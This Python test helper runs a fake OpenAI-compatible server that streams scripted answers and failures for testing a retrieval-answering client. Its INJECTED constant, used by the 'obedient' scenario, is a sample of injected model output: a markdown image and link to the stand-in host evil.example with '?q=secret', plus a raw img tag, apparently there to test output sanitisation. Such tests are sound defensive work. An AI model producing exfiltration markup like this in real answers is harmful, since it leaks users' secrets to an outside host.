"""A local OpenAI-compatible server that answers, and fails, on demand.

The normal answer cites [1] and [2] with words of the passages it received.
"""

import contextlib
import json
import re
import threading
import time
from collections.abc import Callable
from contextlib import AbstractContextManager
from dataclasses import dataclass, field
from typing import Any

from tests.scripted_server import Script, ScriptedHandler, ScriptedServer, running

_PASSAGE = re.compile(r"<<<PASSAGE \[(\d+)\][^\n]*\n(.*?)\n<<<END \[\1\]>>>", re.DOTALL)
_WORD = re.compile(r"[\w-]+")
ABSTENTION = "The passages do not answer this question."
FAILED = b'data: {"error": {"message": "the graphics card is full"}}\n\n'
INJECTED = "![x](http://evil.example/?q=secret) [here](http://evil.example) <img src=x> done [1]."


def passages_of(body: dict[str, Any]) -> list[str]:
    """The texts of the fenced passages of a chat request, without their line marks."""
    prompt = "\n".join(str(message["content"]) for message in body.get("messages", []))
    return [
        " ".join(line.removeprefix("| ") for line in match[2].split("\n"))
        for match in _PASSAGE.finditer(prompt)
    ]


def normal_answer(body: dict[str, Any]) -> str:
    """A sentence for each of the first two passages, made of its first words, with its number."""
    sentences = [
        f"The documents say: {' '.join(_WORD.findall(text)[:8])} [{number}]."
        for number, text in enumerate(passages_of(body)[:2], start=1)
    ]
    return " ".join(sentences) or ABSTENTION


@dataclass
class LlmScript(Script):
    """The next answer; ``gone`` is set when a client hangs up.

    While ``held`` is set, no answer goes beyond its first word.
    """

    delay: float = 0.0
    text: str = ""
    gone: threading.Event = field(default_factory=threading.Event)
    held: threading.Event = field(default_factory=threading.Event)


class _Handler(ScriptedHandler):
    server: "LlmServer"

    @property
    def script(self) -> LlmScript:
        """What the server does next."""
        return self.server.script

    def play(self, body: dict[str, Any]) -> None:
        """Play the scenario."""
        if self.path != "/v1/chat/completions":
            self._status(404, "no such path")
            return
        try:
            SCENARIOS[self.script.scenario](self, body)
        except OSError:
            self.script.gone.set()
            self.close_connection = True

    def _status(self, status: int, message: str, param: str = "", **headers: str) -> None:
        error = {"message": message, "type": "test", "param": param or None, "code": None}
        self.reply(status, json.dumps({"error": error}).encode(), **headers)

    def _open(self, kind: str = "text/event-stream") -> None:
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("transfer-encoding", "chunked")
        self.end_headers()

    def _raw(self, data: bytes) -> None:
        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
        self.wfile.flush()

    def _event(self, text: Any, reason: str | None = None) -> None:
        choice = {"index": 0, "delta": {"content": text}, "finish_reason": reason}
        event = {"id": "t", "object": "chat.completion.chunk", "created": 0, "choices": [choice]}
        self._raw(f"data: {json.dumps(event | {'model': 'test'})}\n\n".encode())

    def _end(self, reason: str = "stop") -> None:
        self._event(None, reason)
        self._raw(b"data: [DONE]\n\n")
        self._raw(b"")

    def _words(self, text: str) -> None:
        for word in re.findall(r"\s*\S+", text):
            self._event(word)
            while self.script.held.is_set() and not self.script.stopping.wait(0.02):
                pass
            if self.script.stopping.wait(self.script.delay):
                return

    def _wait(self, seconds: float = 120.0) -> None:
        """Say nothing until the client hangs up or the test ends."""
        end = time.monotonic() + seconds
        self.connection.settimeout(0.05)
        while time.monotonic() < end and not self.script.stopping.is_set():
            with contextlib.suppress(TimeoutError):
                if not self.connection.recv(1):
                    raise ConnectionResetError


Scenario = Callable[[_Handler, dict[str, Any]], None]


def _normal(handler: _Handler, body: dict[str, Any]) -> None:
    handler._open()
    handler._words(handler.script.text or normal_answer(body))
    handler._end()


def _says(
    words: str = "", raw: bytes = b"", end: str = "", kind: str = "text/event-stream"
) -> Scenario:
    """Words, then raw bytes; without a reason for its end the stream only stops, in good form."""

    def play(handler: _Handler, _: dict[str, Any]) -> None:
        handler._open(kind)
        handler._words(words)
        if raw:
            handler._raw(raw)
        handler._end(end) if end else handler._raw(b"")

    return play


def _status(code: int, message: str, **headers: str) -> Scenario:
    return lambda handler, _: handler._status(code, message, **headers)


def _echo_key(handler: _Handler, _: dict[str, Any]) -> None:
    """The worst server: repeats the key in its error."""
    handler._status(400, f"You sent {handler.headers['authorization']}, which is bad")


def _redirect(handler: _Handler, _: dict[str, Any]) -> None:
    """To the address in the script's text."""
    handler._status(307, "moved", location=handler.script.text or "http://127.0.0.1:9/")


def _blunt_temperature(handler: _Handler, body: dict[str, Any]) -> None:
    """It refuses the temperature in words only, as proxies do."""
    if "temperature" in body:
        handler.reply(422, b'{"detail": [{"msg": "temperature: not supported by this model"}]}')
    else:
        _normal(handler, body)


def _no_system(handler: _Handler, body: dict[str, Any]) -> None:
    """A chat template without the role system (Gemma, Mistral 7B)."""
    if body["messages"][0]["role"] == "system":
        handler.reply(400, b'{"error": "System role not supported"}')
    else:
        _normal(handler, body)


def _always_a_reason(handler: _Handler, body: dict[str, Any]) -> None:
    """Every event says stop, from the first word on."""
    handler._open()
    for word in re.findall(r"\s*\S+", normal_answer(body)):
        handler._event(word, "stop")
    handler._raw(b"data: [DONE]\n\n")
    handler._raw(b"")


def _never_closed(handler: _Handler, body: dict[str, Any]) -> None:
    """The reason for the end comes, but the stream does not end."""
    handler._open()
    handler._words(normal_answer(body))
    handler._event(None, "stop")
    handler._wait()


def _in_parts(handler: _Handler, body: dict[str, Any]) -> None:
    """Content as a list of parts, thoughts apart (Mistral)."""
    handler._open()
    thought = {"type": "thinking", "thinking": [{"type": "text", "text": "Hm."}]}
    for part in (thought, {"type": "text", "text": normal_answer(body)}):
        handler._event([part])
    handler._end("STOP")


def _own_temperature(handler: _Handler, body: dict[str, Any]) -> None:
    """A reasoning model that refuses any temperature but its own."""
    if "temperature" in body:
        handler._status(400, "Unsupported value: 'temperature'", param="temperature")
    else:
        _normal(handler, body)


def _cut(handler: _Handler, body: dict[str, Any]) -> None:
    """The connection ends in the middle of the answer."""
    handler._open()
    handler._words(" ".join(normal_answer(body).split()[:6]))
    handler.close_connection = True
    handler.connection.shutdown(2)


def _hang(handler: _Handler, _: dict[str, Any]) -> None:
    handler._wait()


def _stall(handler: _Handler, _: dict[str, Any]) -> None:
    handler._open()
    handler._words("It begins")
    handler._wait()


def _drip(handler: _Handler, _: dict[str, Any]) -> None:
    """Never silent for long, never done."""
    handler._open()
    while not handler.script.stopping.wait(0.05):
        handler._event("drip ")


SCENARIOS: dict[str, Scenario] = {
    "normal": _normal,
    "abstain": _says(ABSTENTION, end="stop"),
    "obedient": _says(INJECTED, end="stop"),
    "unauthorized": _status(401, "Incorrect API key"),
    "forbidden": _status(403, "not for you"),
    "not_found": _status(404, "model 'test' not found, try pulling it first"),
    "timeout_status": _status(408, "too slow"),
    "rate_limited": _status(429, "slow down", retry_after="7"),
    "too_long": _status(400, "maximum context length is 4096 tokens"),
    "server_error": _status(500, "boom"),
    "loading": _status(503, "loading model", retry_after="3"),
    "redirect": _redirect,
    "echo_key": _echo_key,
    "own_temperature": _own_temperature,
    "blunt_temperature": _blunt_temperature,
    "no_system": _no_system,
    "always_a_reason": _always_a_reason,
    "never_closed": _never_closed,
    "in_parts": _in_parts,
    "cut": _cut,
    "cut_quietly": _says("Half an"),
    "length": _says("As long as allowed", end="length"),
    "filtered": _says("As far as", end="content_filter"),
    "hang": _hang,
    "stall": _stall,
    "drip": _drip,
    "malformed": _says(raw=b"data: {not json\n\n"),
    "strange": _says(raw=b'data: {"choices": "none"}\n\n'),
    "mid_error": _says(
        "It begins", b'data: {"error": {"message": "the graphics card is full"}}\n\n'
    ),
    "page": _says(raw=b"<html><body>Welcome</body></html>", kind="text/html"),
    "empty": _says(end="stop"),
}


class LlmServer(ScriptedServer):
    """The server with its script; ``url`` is the base URL for a client."""

    script: LlmScript

    def __init__(self, scenario: str = "normal", port: int = 0, delay: float = 0.0) -> None:
        super().__init__(_Handler, LlmScript(scenario, delay=delay), port)

    @property
    def url(self) -> str:
        """Such as http://127.0.0.1:8099/v1."""
        return f"{super().url}/v1"


def serving(
    scenario: str = "normal", port: int = 0, delay: float = 0.0
) -> AbstractContextManager[LlmServer]:
    """A running server, gone at the end of the block."""
    return running(LlmServer(scenario, port, delay))
